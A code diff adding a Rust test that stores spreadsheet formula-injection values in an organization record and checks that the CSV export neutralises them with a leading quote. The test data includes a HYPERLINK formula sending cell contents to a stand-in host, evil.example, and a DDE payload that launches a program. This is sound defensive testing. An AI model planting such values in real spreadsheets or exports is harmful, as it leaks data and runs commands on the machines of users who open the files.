@@ -164,8 +164,77 @@ fn rows(text: &str) -> Vec<BTreeMap<String, String>> {
         .collect()
 }
 
+/// An entry whose text a spreadsheet would run as formulas, in the southern
+/// and western hemispheres (negative coordinates).
+async fn formulas(store: &dyn Store) {
+    let org = OrganizationInput {
+        name: BTreeMap::from([
+            ("en".into(), FORMULA.into()),
+            ("ar".into(), "+1+cmd|' /C calc'!A0".into()),
+            ("he".into(), "'=already quoted".into()),
+        ]),
+        description: BTreeMap::from([
+            ("en".into(), "-2+3".into()),
+            ("ar".into(), "@SUM(1,1)".into()),
+        ]),
+        category: "solidarity".into(),
+        city: "=1+1".into(),
+        country: "AR".into(),
+        location: Some(RawLocation {
+            lat: -34.6037,
+            lon: -58.3816,
+        }),
+        precision: Some("city".into()),
+        website: None,
+        links: Vec::new(),
+        languages: vec!["es".into()],
+        tags: vec!["-minus".into(), "=tag".into(), "plain".into()],
+        contact_email: None,
+    }
+    .validate()
+    .unwrap();
+    store
+        .insert_organization(&org, Status::Published)
+        .await
+        .unwrap();
+}
+
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+
+/// The CSV runs no formula: every text cell that starts like one starts
+/// with `'`, numbers stay numbers.
+fn assert_no_formulas(csv: &str) {
+    let rows = rows(csv);
+    let row = rows
+        .iter()
+        .find(|r| r["name.en"].contains("HYPERLINK"))
+        .expect("the formula row");
+    assert_eq!(row["name.en"], format!("'{FORMULA}"));
+    assert_eq!(row["name.ar"], "'+1+cmd|' /C calc'!A0");
+    // a quote the export would otherwise take for its own is doubled
+    assert_eq!(row["name.he"], "''=already quoted");
+    assert_eq!(row["description.en"], "'-2+3");
+    assert_eq!(row["description.ar"], "'@SUM(1,1)");
+    assert_eq!(row["city"], "'=1+1");
+    assert_eq!(row["tags"], "'-minus|=tag|plain");
+    assert_eq!(
+        (row["lat"].as_str(), row["lon"].as_str()),
+        ("-34.6", "-58.4")
+    );
+    for r in &rows {
+        for (column, cell) in r {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "{column}: {cell:?} would run as a formula"
+            );
+        }
+    }
+}
+
 async fn round_trip(a: Arc<dyn Store>, b: Arc<dyn Store>, c: Arc<dyn Store>) {
     filled(a.as_ref()).await;
+    formulas(a.as_ref()).await;
     let options = import::Options::default();
 
     let geojson = exported(&a, Format::GeoJson).await;
@@ -177,6 +246,7 @@ async fn round_trip(a: Arc<dyn Store>, b: Arc<dyn Store>, c: Arc<dyn Store>) {
     assert_eq!(before, after);
 
     let csv = exported(&a, Format::Csv).await;
+    assert_no_formulas(&csv);
     import_text(c.as_ref(), "export.csv", &csv, &options).await;
     let again = exported(&c, Format::Csv).await;
     assert_eq!(rows(&csv), rows(&again));
